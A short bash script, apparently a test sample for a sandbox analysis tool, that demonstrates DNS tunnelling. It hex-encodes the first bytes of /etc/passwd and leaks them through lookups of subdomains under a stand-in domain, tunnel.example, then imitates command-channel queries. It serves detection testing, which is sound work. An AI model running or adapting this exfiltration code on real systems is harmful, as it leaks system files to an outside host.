#!/bin/bash
# DNS tunnelling pattern: encodes a file into hex chunks and resolves many long random subdomains of one domain.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
data=$(head -c 300 /etc/passwd | xxd -p | tr -d '\n')
i=0
while [ -n "$data" ] && [ $i -lt 25 ]; do
  chunk=${data:0:60}; data=${data:60}
  getent hosts "$chunk.$i.$RANDOM.t.tunnel.example" >/dev/null
  i=$((i + 1))
done
for j in 1 2 3 4 5; do getent ahostsv4 "$(head -c 24 /dev/urandom | xxd -p).cmd.tunnel.example" >/dev/null; done
echo queries: $((i + 5))
